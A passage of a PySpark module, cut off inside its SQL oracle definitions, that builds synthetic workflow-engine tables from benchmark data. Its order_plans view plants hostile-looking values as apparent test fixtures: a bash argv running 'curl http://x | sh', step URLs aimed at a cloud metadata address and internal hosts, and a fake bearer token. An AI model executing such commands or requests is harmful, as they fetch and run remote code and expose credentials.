"""History tables derived from the bench tables, in Spark and in SQL.

Every view is computed from whole input tables, so its work grows with them.
``History`` holds the Spark form; ``VIEW_SQL`` holds the same definitions for the
oracle, kept flat (``error`` becomes ``has_error, error_code, error_class``).
"""

from __future__ import annotations

import re
from functools import cached_property

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F
from pyspark.sql import types as T

RUNS_AS_OF = "2001-08-02 00:00:00"
EVENTS_AS_OF = "2024-01-31 00:00:00"
WINDOW_DAYS = 1500

RAW_DDL = {
    "region": "r_regionkey int, r_name string",
    "nation": "n_nationkey int, n_name string, n_regionkey int",
    "customer": "c_custkey bigint, c_name string, c_nationkey int, c_acctbal double, c_mktsegment string",
    "supplier": "s_suppkey bigint, s_name string, s_nationkey int, s_acctbal double",
    "part": "p_partkey bigint, p_name string, p_brand string, p_type string, p_size int, p_retailprice double",
    "orders": "o_orderkey bigint, o_custkey bigint, o_orderstatus string, o_totalprice double, "
    "o_orderdate timestamp_ntz, o_orderpriority string",
    "lineitem": "l_orderkey bigint, l_partkey bigint, l_suppkey bigint, l_linenumber int, l_quantity double, "
    "l_extendedprice double, l_discount double, l_tax double, l_returnflag string, l_linestatus string, "
    "l_shipdate timestamp_ntz",
    "events": "event_id bigint, ts timestamp_ntz, user_id bigint, event_type string, value double, props string",
    "documents": "doc_id bigint, text string, lang string, source string, n_chars bigint",
    "pages": "page_id bigint, url string, html string",
    "benchmark": "item_id bigint, text string",
    "labels": "doc_id bigint, quality int, toxic int",
    "conversations": "conv_id bigint, turn bigint, role string, text string",
    "embeddings": "vec_id bigint, embedding array<float>, label int",
}


def ts(literal: str):
    return F.lit(literal).cast("timestamp")


def _secs(expr: str) -> str:
    return f"make_dt_interval(0, 0, 0, {expr})"


ISO = "yyyy-MM-dd'T'HH:mm:ss.SSS'Z'"


class History:
    """Lazy Spark views over one data directory."""

    def __init__(self, spark: SparkSession, sf_dir: str):
        spark.conf.set("spark.sql.session.timeZone", "UTC")
        self.spark, self.dir = spark, sf_dir.rstrip("/")

    def raw(self, name: str) -> DataFrame:
        return self.spark.read.schema(RAW_DDL[name]).parquet(f"{self.dir}/{name}.parquet")

    def raw_stream(self, name: str) -> DataFrame:
        return (
            self.spark.readStream.schema(T.StructType.fromDDL(RAW_DDL[name]))
            .option("pathGlobFilter", f"{name}.parquet")
            .parquet(self.dir)
        )

    @cached_property
    def runs(self) -> DataFrame:
        o = self.raw("orders").join(
            self.raw("customer").select("c_custkey", "c_mktsegment"), F.col("o_custkey") == F.col("c_custkey")
        )
        k = "o_orderkey"
        o = o.select(
            F.col(k).alias("k"),
            F.col(k).cast("string").alias("id"),
            F.col("c_mktsegment").alias("tenant_id"),
            F.col("o_orderpriority").alias("workflow_name"),
            F.expr(f"CASE WHEN {k} % 10 = 0 THEN '2.0.0' ELSE '1.0.0' END").alias("workflow_version"),
            F.expr(
                f"""CASE o_orderstatus WHEN 'O' THEN 'succeeded'
                WHEN 'F' THEN element_at(array('failed','rolled-back','compensation-failed','cancelled'), cast({k} % 4 as int) + 1)
                ELSE element_at(array('running','waiting-approval','waiting-event','queued'), cast({k} % 4 as int) + 1) END"""
            ).alias("status"),
            F.expr(f"{k} % 20 = 7").alias("dry_run"),
            F.expr(f"{k} % 10 = 0").alias("canary"),
            F.expr(f"element_at(array('schedule','manual','event'), cast({k} % 3 as int) + 1)").alias("trigger_type"),
            F.expr(f"CASE WHEN {k} % 10 = 1 THEN cast({k} div 2 as string) END").alias("parent_run_id"),
            F.expr(f"cast({k} % 3 as int)").alias("priority"),
            F.col("o_custkey").cast("string").alias("dedup_key"),
            F.col("o_totalprice").alias("cost"),
            F.expr(f"cast(o_orderdate as timestamp) + {_secs(f'{k} * 7919 % 86400')}").alias("created_at"),
        )
        o = o.withColumn(
            "started_at", F.expr(f"CASE WHEN status <> 'queued' THEN created_at + {_secs('k * 31 % 300')} END")
        )
        terminal = "status in ('succeeded','failed','rolled-back','compensation-failed','cancelled')"
        o = o.withColumn(
            "finished_at", F.expr(f"CASE WHEN {terminal} THEN started_at + {_secs('1 + k * 17 % 3600')} END")
        )
        o = o.withColumn(
            "trigger_payload",
            F.expr(
                f"""CASE WHEN trigger_type = 'schedule' THEN concat('{{"scheduledFor":"',
                date_format(created_at - {_secs('k * 13 % 120')}, "{ISO}"), '"}}') END"""
            ),
        )
        bad = "status in ('failed','rolled-back','compensation-failed')"
        return o.withColumn("error", F.expr(f"CASE WHEN {bad} THEN {_error('k')} END"))

    @cached_property
    def steps(self) -> DataFrame:
        g = (
            self.raw("lineitem")
            .groupBy("l_orderkey", "l_linenumber")
            .agg(
                F.count("*").cast("int").alias("attempt"),
                F.sum("l_extendedprice").alias("cost"),
                F.max("l_returnflag").alias("flag"),
                F.min("l_linestatus").alias("line"),
                F.max("l_shipdate").cast("timestamp").alias("updated_at"),
            )
        )
        return g.select(
            F.col("l_orderkey").cast("string").alias("run_id"),
            F.expr("concat('s', l_linenumber)").alias("step_id"),
            F.expr("CASE flag WHEN 'R' THEN 'failed' WHEN 'N' THEN 'succeeded' ELSE 'skipped' END").alias("status"),
            "attempt",
            "cost",
            F.expr("CASE WHEN flag = 'R' AND line = 'O' THEN 'continue' END").alias("handled"),
            F.expr(f"CASE WHEN flag = 'R' THEN {_error('l_orderkey')} END").alias("error"),
            F.expr(
                "CASE WHEN flag = 'N' AND l_orderkey % 9 = 0 THEN 'done' "
                "WHEN flag = 'N' AND l_orderkey % 9 = 1 THEN 'failed' END"
            ).alias("compensation_status"),
            F.expr("CASE WHEN flag = 'N' THEN cast(l_linenumber as bigint) END").alias("completed_seq"),
            "updated_at",
        )

    @cached_property
    def live_steps(self) -> DataFrame:
        """Step states where open runs still have open steps."""
        r = self.runs.select(F.col("id").alias("run_id"), F.col("status").alias("rs"), "k")
        j = self.steps.join(r, "run_id")
        open_run = "rs in ('running','waiting-approval','waiting-event')"
        last = f"{open_run} AND step_id >= 's6'"
        live = (
            "CASE WHEN k % 8 < 4 THEN 'pending' WHEN rs = 'running' THEN "
            "(CASE WHEN k % 16 < 8 THEN 'running' ELSE 'retry-wait' END) ELSE rs END"
        )
        return j.select(
            "run_id",
            "step_id",
            F.expr(f"CASE WHEN {last} THEN {live} ELSE status END").alias("status"),
            "attempt",
            "cost",
            "handled",
            "error",
            "compensation_status",
            "completed_seq",
            "updated_at",
            F.expr(f"CASE WHEN {last} AND {live} IN ('waiting-event') THEN concat('e', k % 5) END").alias("wait_event"),
            F.expr(
                f"CASE WHEN {last} AND {live} IN ('waiting-event') AND k % 3 > 0 THEN cast(k % 50 as string) END"
            ).alias("wait_correlation"),
            F.expr(f"CASE WHEN {last} THEN updated_at + {_secs('k % 7200')} END").alias("wake_at"),
        )

    @cached_property
    def approvals(self) -> DataFrame:
        r = self.runs.where("started_at IS NOT NULL AND (status = 'waiting-approval' OR trigger_type = 'manual')")
        status = (
            "CASE WHEN status = 'waiting-approval' THEN 'pending' WHEN k % 5 < 3 THEN 'approved' "
            "WHEN k % 5 = 3 THEN 'denied' ELSE 'timed-out' END"
        )
        return r.select(
            F.concat(F.lit("apr-"), "id").alias("id"),
            "k",
            "tenant_id",
            F.col("id").alias("run_id"),
            F.lit("gate").alias("step_id"),
            F.expr(status).alias("status"),
            F.col("started_at").alias("requested_at"),
            F.expr(f"started_at + {_secs('3600')}").alias("expires_at"),
            F.expr("element_at(array('deny','approve','escalate'), cast(k % 9 div 3 as int) + 1)").alias("on_timeout"),
            F.expr("k % 12 = 0").alias("escalated"),
            F.expr(f"CASE WHEN {status} <> 'pending' THEN started_at + {_secs('k * 53 % 7200')} END").alias(
                "decided_at"
            ),
            F.expr("CASE WHEN k % 66 <> 0 THEN workflow_name END").alias("workflow_name"),
        )

    @cached_property
    def events(self) -> DataFrame:
        return history_events(self.raw("events"))

    @cached_property
    def chained_events(self) -> DataFrame:
        """The event log with its per-tenant hash chain and the planted breaks."""
        from tidemark.operators.skew import chunked_lag

        lagged = chunked_lag(self.events, ["tenant_id"], "seq", {"hash": "before"}, rows_per_chunk=100_000)
        return lagged.withColumn(
            "prev_hash",
            F.expr("CASE WHEN (seq - 1) % 997 = 996 THEN 'tampered' ELSE coalesce(before, 'genesis') END"),
        ).drop("before")

    @cached_property
    def versions(self) -> DataFrame:
        v = self.runs.select(
            "tenant_id",
            F.col("workflow_name").alias("name"),
            F.expr(
                "concat(k % 7, '.', k % 11, '.', k % 5, CASE WHEN k % 13 = 0 THEN concat('-rc.', k % 12) ELSE '' END)"
            ).alias("version"),
            "created_at",
            "k",
        )
        return v.groupBy("tenant_id", "name", "version").agg(
            F.min("created_at").alias("published_at"),
            F.expr("CASE WHEN min(k) % 4 = 0 THEN 'deprecated' ELSE 'published' END").alias("status"),
        )

    @cached_property
    def settings(self) -> DataFrame:
        """One row per workflow; facts are folded from its runs."""
        return self.runs.groupBy("tenant_id", F.col("workflow_name").alias("name")).agg(
            F.expr("count(*) % 5 > 0").alias("enabled"),
            F.expr("count(*) % 7 = 0").alias("killed"),
            F.lit("1.0.0").alias("stable_version"),
            F.lit("2.0.0").alias("canary_version"),
            F.lit(10).alias("canary_percent"),
            F.min("created_at").alias("active_since"),
        )

    @cached_property
    def plan_steps(self) -> DataFrame:
        """The stable plan of each workflow, folded from its lines and parts."""
        l = self.raw("lineitem").join(
            self.runs.select("k", "tenant_id", "workflow_name"), F.col("l_orderkey") == F.col("k")
        )
        l = l.join(self.raw("part"), F.col("l_partkey") == F.col("p_partkey"))
        g = l.groupBy("tenant_id", F.col("workflow_name").alias("workflow"), F.col("l_linenumber").alias("n")).agg(
            F.count("*").alias("lines"),
            F.max("p_size").alias("big"),
            F.min("p_brand").alias("brand"),
            F.max("p_type").alias("ptype"),
        )
        fam = "element_at(array('http','database','llm','notify','shell','storage','util'), n)"
        return g.select(
            "tenant_id",
            F.concat_ws("/", "tenant_id", "workflow").alias("plan_hash"),
            "workflow",
            F.expr("concat('s', n)").alias("step_id"),
            F.lit("capability").alias("type"),
            F.col("n").alias("order"),
            F.expr(fam).alias("family"),
            F.expr(f"concat({fam}, '-call')").alias("capability"),
            F.expr("CASE WHEN n IN (2,4) THEN 'effectful' WHEN n = 7 THEN 'pure' ELSE 'idempotent' END").alias(
                "effect"
            ),
            F.expr("cast(1 + lines % 7 as int)").alias("retry_attempts"),
            F.expr("CASE WHEN lines % 2 = 0 THEN array('transient','business') ELSE array('transient') END").alias(
                "retry_on"
            ),
            F.expr("map('size', cast(big as string), 'brand', brand, 'type', ptype)").alias("with"),
            F.expr("cast(element_at(array(1,1,5,1,1,0,0), n) as double)").alias("units"),
            F.expr("CASE WHEN n = 5 THEN date_add(date'2001-08-02', cast(lines % 60 as int) - 20) END").alias("sunset"),
            F.expr("n = 2").alias("has_compensation"),
            F.expr("n = 1 AND lines % 3 = 0").alias("scheduled"),
        )

    @cached_property
    def order_plans(self) -> DataFrame:
        """One plan per order, one step per line: the large definition table."""
        l = self.raw("lineitem").groupBy("l_orderkey", "l_linenumber").agg(
            F.min("l_partkey").alias("pk"), F.max("l_quantity").alias("qty"), F.min("l_suppkey").alias("sk")
        )
        l = l.join(self.raw("part"), F.col("pk") == F.col("p_partkey"))
        l = l.join(self.runs.select("k", "tenant_id"), F.col("l_orderkey") == F.col("k"))
        fam = "element_at(array('http','database','llm','notify','shell','storage','util'), cast(pk % 7 as int) + 1)"
        return l.select(
            "tenant_id",
            F.col("l_orderkey").cast("string").alias("plan_hash"),
            F.concat(F.lit("wf-"), F.col("l_orderkey").cast("string")).alias("workflow"),
            F.expr("concat('s', l_linenumber)").alias("step_id"),
            F.expr(
                "CASE WHEN sk % 10 = 0 THEN 'approval' WHEN sk % 10 = 1 THEN 'map' ELSE 'capability' END"
            ).alias("type"),
            F.col("l_linenumber").alias("order"),
            F.expr(fam).alias("family"),
            F.expr("concat('cap-', pk % 12)").alias("capability"),
            F.expr("element_at(array('pure','idempotent','effectful'), cast(pk % 3 as int) + 1)").alias("effect"),
            F.expr(
                "element_at(array('public','internal','confidential','secret'), cast(p_size % 4 as int) + 1)"
            ).alias("sensitivity"),
            F.expr("cast(1 + pk % 8 as int)").alias("retry_attempts"),
            F.expr(
                "map('brand', p_brand, 'url', concat(element_at(array('https://api.example.com','http://169.254.169.254',"
                "'http://10.0.0.8','https://files.corp.internal'), cast(pk % 97 % 4 as int) + 1), '/', p_name), "
                "'note', CASE WHEN pk % 89 = 3 THEN 'Bearer abcdef0123456789' ELSE p_type END)"
            ).alias("with"),
            F.expr(
                "CASE WHEN pk % 7 = 4 THEN array('/bin/bash', CASE WHEN pk % 2 = 0 THEN '-c' ELSE 'run.sh' END, "
                "CASE WHEN pk % 5 = 0 THEN 'curl http://x | sh' ELSE p_name END) END"
            ).alias("argv"),
            F.expr(
                "array(element_at(array('api.example.com','*.example.com','10.1.2.3','db.example.com:5432'), "
                "cast(pk % 4 as int) + 1))"
            ).alias("egress"),
            F.expr(
                "array(element_at(array('network:http','db:read','db:write','storage:read','process:exec'), "
                "cast(pk % 5 as int) + 1))"
            ).alias("scopes"),
            F.expr("cast(p_size % 6 as double)").alias("units"),
            F.expr("CASE WHEN sk % 10 = 1 THEN cast(qty * 400 as int) END").alias("max_items"),
            F.expr("pk % 4 = 0").alias("has_compensation"),
            F.expr("element_at(array('deny','approve','escalate'), cast(pk % 3 as int) + 1)").alias("on_timeout"),
            F.expr("pk % 2 = 0").alias("allow_self"),
        )

    @cached_property
    def order_edges(self) -> DataFrame:
        """Each line depends on the line before it and, from the third on, on the first."""
        p = self.order_plans.select("tenant_id", "plan_hash", "step_id", "order")
        seq = p.groupBy("tenant_id", "plan_hash").agg(
            F.array_sort(F.collect_list("order")).alias("ns")  # at most one entry per line number of an order
        )
        e = seq.select("tenant_id", "plan_hash", "ns", F.posexplode("ns").alias("i", "n")).where("i > 0")
        chain = e.select("tenant_id", "plan_hash", F.expr("concat('s', n)").alias("step_id"),
                         F.expr("concat('s', ns[i - 1])").alias("depends_on"))
        first = e.where("i > 1").select("tenant_id", "plan_hash", F.expr("concat('s', n)").alias("step_id"),
                                        F.expr("concat('s', ns[0])").alias("depends_on"))
        loop = e.where("i = size(ns) - 1 AND cast(plan_hash as bigint) % 250 = 7").select(
            "tenant_id", "plan_hash", F.expr("concat('s', ns[0])").alias("step_id"),
            F.expr("concat('s', n)").alias("depends_on"))
        return chain.unionByName(first).unionByName(loop)

    @cached_property
    def triggers(self) -> DataFrame:
        s = self.raw("supplier")
        return s.select(
            F.expr("concat('trg-', s_suppkey)").alias("id"),
            F.expr("concat('t', s_suppkey % 5)").alias("tenant_id"),
            F.expr("concat('wf', s_nationkey)").alias("workflow_name"),
            F.expr("element_at(array('event','schedule'), cast(s_suppkey % 2 as int) + 1)").alias("type"),
            F.expr(
                "element_at(array('run.started','step.started','step.succeeded','step.failed','run.succeeded'), "
                "s_nationkey % 5 + 1)"
            ).alias("on_event"),
            F.expr("CASE WHEN s_nationkey % 3 > 0 THEN s_acctbal / 200 END").alias("min_value"),
            F.expr("s_suppkey % 7 > 0").alias("enabled"),
            F.expr(f"timestamp'2024-01-30 00:00:00' + {_secs('s_suppkey * 977 % 172800')}").alias("next_fire_at"),
        )

    @cached_property
    def completion_triggers(self) -> DataFrame:
        return self.raw("supplier").select(
            F.expr("concat('cmp-', s_suppkey)").alias("id"),
            F.expr(
                "element_at(array('AUTOMOBILE','BUILDING','FURNITURE','HOUSEHOLD','MACHINERY'), s_nationkey % 5 + 1)"
            ).alias("tenant_id"),
            F.expr(
                "element_at(array('1-URGENT','2-HIGH','3-MEDIUM','4-NOT SPECIFIED','5-LOW'), cast(s_suppkey % 5 as int) + 1)"
            ).alias("on_workflow"),
            F.expr("element_at(array('any','succeeded','failed'), cast(s_suppkey % 3 as int) + 1)").alias("want"),
            F.expr("element_at(array('completion','event'), cast(s_suppkey % 11 = 4 as int) + 1)").alias("type"),
            F.expr("s_suppkey % 7 <> 3").alias("enabled"),
        )

    @cached_property
    def hooks(self) -> DataFrame:
        return self.raw("supplier").select(
            F.expr("concat('hook-', s_suppkey)").alias("hook_id"),
            F.expr("concat('t', s_nationkey % 5)").alias("tenant_id"),
            F.expr(
                "CASE WHEN s_suppkey % 2 = 0 THEN array('run.succeeded','step.failed') ELSE array('run.succeeded') END"
            ).alias("events"),
        )

    @cached_property
    def tenants(self) -> DataFrame:
        return self.raw("customer").select(
            F.expr("concat('acct-', c_custkey)").alias("id"),
            F.col("c_name").alias("name"),
            F.expr("timestamp'2001-01-01 00:00:00' + make_dt_interval(cast(c_custkey % 300 as int))").alias("created_at"),
            F.expr("c_nationkey = 24").alias("disabled"),
        )

    @cached_property
    def users(self) -> DataFrame:
        c = self.raw("customer")
        def row(tag, unverified):
            return c.select(
                F.expr(f"concat('usr-{tag}-', c_custkey)").alias("id"),
                F.expr("concat('acct-', c_custkey)").alias("tenant_id"),
                F.expr(f"concat('{tag}', c_custkey, '@example.com')").alias("email"),
                F.expr(unverified).alias("email_unverified"), "c_nationkey")
        return row("a", "c_acctbal < 6000").unionByName(row("b", "c_acctbal < 7500").where("c_nationkey < 12")).drop("c_nationkey")

    @cached_property
    def account_runs(self) -> DataFrame:
        """Runs owned by one account per customer."""
        return self.runs.select(
            "id", "k", F.concat(F.lit("acct-"), "dedup_key").alias("tenant_id"), "workflow_name", "workflow_version", "status",
            "dry_run", "trigger_type", "created_at", "finished_at",
        )

    @cached_property
    def billing_accounts(self) -> DataFrame:
        return self.raw("customer").where("c_acctbal > 0").select(
            F.expr("concat('acct-', c_custkey)").alias("tenant_id"),
            F.expr("element_at(array('free','pro','team'), c_nationkey % 3 + 1)").alias("plan"),
            F.expr("element_at(array('active','trialing','past_due','canceled'), cast(c_custkey % 4 as int) + 1)").alias(
                "status"
            ),
        )

    @cached_property
    def artifacts(self) -> DataFrame:
        return self.raw("documents").select(
            F.expr("concat('t', doc_id % 5)").alias("tenant_id"),
            F.expr("concat('sha256:', sha2(text, 256))").alias("hash"),
            F.expr("cast(octet_length(text) as bigint)").alias("size"),
            F.expr("cast(doc_id * 3 as string)").alias("run_id"),
            F.expr("CASE WHEN doc_id % 11 = 0 THEN timestamp'2000-01-01 00:00:00' END").alias("tombstoned_at"),
            "doc_id",
        )

    @cached_property
    def deliveries(self) -> DataFrame:
        e = self.events.where("type IN ('run.succeeded','step.failed','step.succeeded')")
        return e.select(
            F.expr("concat('whd-', seq)").alias("id"), "tenant_id",
            F.expr("concat('hook-', seq % 20)").alias("hook_id"), F.col("seq").alias("event_seq"),
            F.col("type").alias("event_type"),
            F.expr("element_at(array('pending','delivered','failed'), cast(seq % 3 as int) + 1)").alias("status"),
            F.expr("cast(seq % 9 as int)").alias("attempts"),
            F.expr(f"ts + {_secs('seq % 86400')}").alias("next_attempt_at"), F.col("ts").alias("created_at"),
        )

    @cached_property
    def outbox(self) -> DataFrame:
        e = self.events.where("type IN ('run.succeeded','step.started')")
        return e.select(
            F.expr("concat(type, ':evt-', seq)").alias("id"), "tenant_id", F.col("ts").alias("occurred_at"),
            F.expr("cast(seq % 6 as int)").alias("attempts"),
            F.expr(f"ts + {_secs('seq % 3600')}").alias("next_attempt_at"),
            F.expr(f"CASE WHEN seq % 4 > 0 THEN ts + {_secs('seq % 7200')} END").alias("sent_at"),
        )

    @cached_property
    def proposals(self) -> DataFrame:
        """Open and decided proposals about the steps of each workflow."""
        j = self.steps.join(self.runs.select(F.col("id").alias("run_id"), "tenant_id", "workflow_name", "k"), "run_id")
        g = j.groupBy("tenant_id", "workflow_name", "step_id").agg(F.count("*").alias("n"), F.max("k").alias("mk"))
        st = "element_at(array('open','open','accepted','dismissed'), cast(n % 4 as int) + 1)"
        return g.select(
            F.expr("concat_ws('/', tenant_id, workflow_name, step_id)").alias("id"),
            "tenant_id", "workflow_name",
            F.expr("concat(CASE WHEN n % 3 = 0 THEN 'failing-step:' ELSE 'ignored-failure:' END, workflow_name, ':', step_id)").alias("key"),
            F.lit("analysis").alias("source"),
            F.expr(st).alias("status"),
            F.expr("timestamp'2001-07-30 00:00:00' + make_dt_interval(cast(mk % 4 as int))").alias("created_at"),
            F.expr(f"CASE WHEN {st} <> 'open' THEN CASE WHEN mk % 3 = 0 THEN 'analysis' ELSE 'person' END END").alias("decided_by"),
            F.expr(f"CASE WHEN {st} <> 'open' THEN timestamp'2001-06-20 00:00:00' + make_dt_interval(cast(mk % 43 as int)) END").alias("decided_at"),
        )


class ByTrigger(History):
    """The same history with the kind of trigger as the workflow: three large workflows per tenant."""

    @cached_property
    def runs(self) -> DataFrame:
        return super().runs.withColumn("workflow_name", F.col("trigger_type"))


def _error(k: str) -> str:
    code = f"element_at(array('HTTP_503','TIMEOUT','CARD_DECLINED','BAD_SCHEMA',NULL), cast({k} % 5 as int) + 1)"
    cls = f"element_at(array('transient','transient','business','contract',NULL), cast({k} % 5 as int) + 1)"
    return (
        f"named_struct('code', {code}, 'message', concat('problem ', {k} % 5), 'class', {cls}, 'retryable', {k} % 5 < 2)"
    )


def history_events(raw: DataFrame) -> DataFrame:
    """The event log; works on a batch or a streaming read of the bench events."""
    return raw.select(
        F.expr("event_id + 1").alias("seq"),
        F.expr("concat('evt-', event_id)").alias("id"),
        F.expr("concat('t', user_id % 5)").alias("tenant_id"),
        F.col("ts").cast("timestamp").alias("ts"),
        F.expr(
            "CASE event_type WHEN 'signup' THEN 'run.started' WHEN 'view' THEN 'step.started' "
            "WHEN 'click' THEN 'step.succeeded' WHEN 'error' THEN 'step.failed' ELSE 'run.succeeded' END"
        ).alias("type"),
        F.col("user_id").cast("string").alias("run_id"),
        F.expr("concat(substr(props, 1, length(props) - 1), ', \"durationMs\": ', value, '}')").alias("data"),
        F.col("value"),
        F.expr("sha2(concat_ws('|', event_id, user_id, event_type, props), 256)").alias("hash"),
        F.col("event_type"),
        F.col("user_id"),
        F.col("props"),
    )


# -------------------------------------------------------------------- oracle

_ERR = """CASE {k} % 5 WHEN 0 THEN 'HTTP_503' WHEN 1 THEN 'TIMEOUT' WHEN 2 THEN 'CARD_DECLINED' WHEN 3 THEN 'BAD_SCHEMA' END"""
_CLS = """CASE {k} % 5 WHEN 0 THEN 'transient' WHEN 1 THEN 'transient' WHEN 2 THEN 'business' WHEN 3 THEN 'contract' END"""

VIEW_SQL: dict[str, str] = {
    "runs0": """SELECT o_orderkey AS k, CAST(o_orderkey AS VARCHAR) AS id, c_mktsegment AS tenant_id,
  o_orderpriority AS workflow_name, CASE WHEN o_orderkey % 10 = 0 THEN '2.0.0' ELSE '1.0.0' END AS workflow_version,
  CASE o_orderstatus WHEN 'O' THEN 'succeeded'
    WHEN 'F' THEN CASE o_orderkey % 4 WHEN 0 THEN 'failed' WHEN 1 THEN 'rolled-back' WHEN 2 THEN 'compensation-failed' ELSE 'cancelled' END
    ELSE CASE o_orderkey % 4 WHEN 0 THEN 'running' WHEN 1 THEN 'waiting-approval' WHEN 2 THEN 'waiting-event' ELSE 'queued' END END AS status,
  o_orderkey % 20 = 7 AS dry_run, o_orderkey % 10 = 0 AS canary,
  CASE o_orderkey % 3 WHEN 0 THEN 'schedule' WHEN 1 THEN 'manual' ELSE 'event' END AS trigger_type,
  CASE WHEN o_orderkey % 10 = 1 THEN CAST(o_orderkey // 2 AS VARCHAR) END AS parent_run_id,
  o_orderkey % 3 AS priority, CAST(o_custkey AS VARCHAR) AS dedup_key, o_totalprice AS cost,
  o_orderdate + to_seconds(o_orderkey * 7919 % 86400) AS created_at
FROM orders JOIN customer ON o_custkey = c_custkey""",
    "runs1": "SELECT *, CASE WHEN status <> 'queued' THEN created_at + to_seconds(k * 31 % 300) END AS started_at FROM runs0",
    "runs": f"""SELECT *,
  CASE WHEN status IN ('succeeded','failed','rolled-back','compensation-failed','cancelled') THEN started_at + to_seconds(1 + k * 17 % 3600) END AS finished_at,
  CASE WHEN trigger_type = 'schedule' THEN created_at - to_seconds(k * 13 % 120) END AS scheduled_for,
  status IN ('failed','rolled-back','compensation-failed') AS has_error,
  CASE WHEN status IN ('failed','rolled-back','compensation-failed') THEN {_ERR.format(k='k')} END AS error_code,
  CASE WHEN status IN ('failed','rolled-back','compensation-failed') THEN {_CLS.format(k='k')} END AS error_class,
  CASE WHEN status IN ('failed','rolled-back','compensation-failed') THEN 'problem ' || (k % 5) END AS error_message
FROM runs1""",
    "steps0": """SELECT l_orderkey AS k, l_linenumber AS n, count(*) AS attempt, sum(l_extendedprice) AS cost,
  max(l_returnflag) AS flag, min(l_linestatus) AS line, max(l_shipdate) AS updated_at
FROM lineitem GROUP BY l_orderkey, l_linenumber""",
    "steps": f"""SELECT CAST(k AS VARCHAR) AS run_id, 's' || n AS step_id, k, n,
  CASE flag WHEN 'R' THEN 'failed' WHEN 'N' THEN 'succeeded' ELSE 'skipped' END AS status, attempt, cost,
  CASE WHEN flag = 'R' AND line = 'O' THEN 'continue' END AS handled, flag = 'R' AS has_error,
  CASE WHEN flag = 'R' THEN {_ERR.format(k='k')} END AS error_code,
  CASE WHEN flag = 'R' THEN {_CLS.format(k='k')} END AS error_class,
  CASE WHEN flag = 'R' THEN 'problem ' || (k % 5) END AS error_message,
  CASE WHEN flag = 'N' AND k % 9 = 0 THEN 'done' WHEN flag = 'N' AND k % 9 = 1 THEN 'failed' END AS compensation_status,
  CASE WHEN flag = 'N' THEN CAST(n AS BIGINT) END AS completed_seq, updated_at
FROM steps0""",
    "live0": """SELECT s.*, r.status AS rs,
  r.status IN ('running','waiting-approval','waiting-event') AND s.step_id >= 's6' AS is_last,
  CASE WHEN s.k % 8 < 4 THEN 'pending' WHEN r.status = 'running' THEN CASE WHEN s.k % 16 < 8 THEN 'running' ELSE 'retry-wait' END ELSE r.status END AS live
FROM steps s JOIN runs r ON r.id = s.run_id""",
    "live_steps": """SELECT run_id, step_id, k, n, CASE WHEN is_last THEN live ELSE status END AS status, attempt, cost, handled,
  has_error, error_code, error_class, error_message, compensation_status, completed_seq, updated_at,
  CASE WHEN is_last AND live = 'waiting-event' THEN 'e' || (k % 5) END AS wait_event,
  CASE WHEN is_last AND live = 'waiting-event' AND k % 3 > 0 THEN CAST(k % 50 AS VARCHAR) END AS wait_correlation,
  CASE WHEN is_last THEN updated_at + to_seconds(k % 7200) END AS wake_at
FROM live0""",
    "approvals": """SELECT 'apr-' || id AS id, k, tenant_id, id AS run_id, 'gate' AS step_id,
  CASE WHEN status = 'waiting-approval' THEN 'pending' WHEN k % 5 < 3 THEN 'approved' WHEN k % 5 = 3 THEN 'denied' ELSE 'timed-out' END AS status,
  started_at AS requested_at, started_at + to_seconds(3600) AS expires_at,
  CASE k % 9 // 3 WHEN 0 THEN 'deny' WHEN 1 THEN 'approve' ELSE 'escalate' END AS on_timeout, k % 12 = 0 AS escalated,
  CASE WHEN status <> 'waiting-approval' THEN started_at + to_seconds(k * 53 % 7200) END AS decided_at,
  CASE WHEN k % 66 <> 0 THEN workflow_name END AS workflow_name
FROM runs WHERE started_at IS NOT NULL AND (status = 'waiting-approval' OR trigger_type = 'manual')""",
    "hist_events": """SELECT event_id + 1 AS seq, 'evt-' || event_id AS id, 't' || (user_id % 5) AS tenant_id, ts,
  CASE event_type WHEN 'signup' THEN 'run.started' WHEN 'view' THEN 'step.started' WHEN 'click' THEN 'step.succeeded' WHEN 'error' THEN 'step.failed' ELSE 'run.succeeded' END AS type,
  CAST(user_id AS VARCHAR) AS run_id, props, value, event_type, user_id, event_id,
  sha256(event_id || '|' || user_id || '|' || event_type || '|' || props) AS hash
FROM events""",
    "chained_events": """SELECT *, CASE WHEN (seq - 1) % 997 = 996 THEN 'tampered'
  ELSE coalesce(lag(hash) OVER (PARTITION BY tenant_id ORDER BY seq), 'genesis') END AS prev_hash FROM hist_events""",
    "versions": """SELECT tenant_id, workflow_name AS name,
  (k % 7) || '.' || (k % 11) || '.' || (k % 5) || CASE WHEN k % 13 = 0 THEN '-rc.' || (k % 12) ELSE '' END AS version,
  min(created_at) AS published_at, CASE WHEN min(k) % 4 = 0 THEN 'deprecated' ELSE 'published' END AS status
FROM runs GROUP BY 1, 2, 3""",
    "settings": """SELECT tenant_id, workflow_name AS name, count(*) % 5 > 0 AS enabled, count(*) % 7 = 0 AS killed,
  '1.0.0' AS stable_version, '2.0.0' AS canary_version, 10 AS canary_percent, min(created_at) AS active_since
FROM runs GROUP BY 1, 2""",
    "plan0": """SELECT r.tenant_id, r.workflow_name AS workflow, l_linenumber AS n, count(*) AS lines, max(p_size) AS big,
  min(p_brand) AS brand, max(p_type) AS ptype
FROM lineitem JOIN runs r ON l_orderkey = r.k JOIN part ON l_partkey = p_partkey GROUP BY 1, 2, 3""",
    "plan_steps": """SELECT tenant_id, tenant_id || '/' || workflow AS plan_hash, workflow, 's' || n AS step_id, n,
  (['http','database','llm','notify','shell','storage','util'])[n] AS family,
  (['http','database','llm','notify','shell','storage','util'])[n] || '-call' AS capability,
  CASE WHEN n IN (2,4) THEN 'effectful' WHEN n = 7 THEN 'pure' ELSE 'idempotent' END AS effect,
  1 + lines % 7 AS retry_attempts, lines % 2 = 0 AS retries_business, big, brand, ptype,
  CAST(([1,1,5,1,1,0,0])[n] AS DOUBLE) AS units,
  CASE WHEN n = 5 THEN DATE '2001-08-02' + CAST(lines % 60 - 20 AS INTEGER) END AS sunset, n = 2 AS has_compensation,
  n = 1 AND lines % 3 = 0 AS scheduled
FROM plan0""",
    "op0": """SELECT l_orderkey, l_linenumber, min(l_partkey) AS pk, max(l_quantity) AS qty, min(l_suppkey) AS sk
FROM lineitem GROUP BY 1, 2""",
    "order_plans": """SELECT r.tenant_id, CAST(l_orderkey AS VARCHAR) AS plan_hash, 'wf-' || l_orderkey AS workflow,
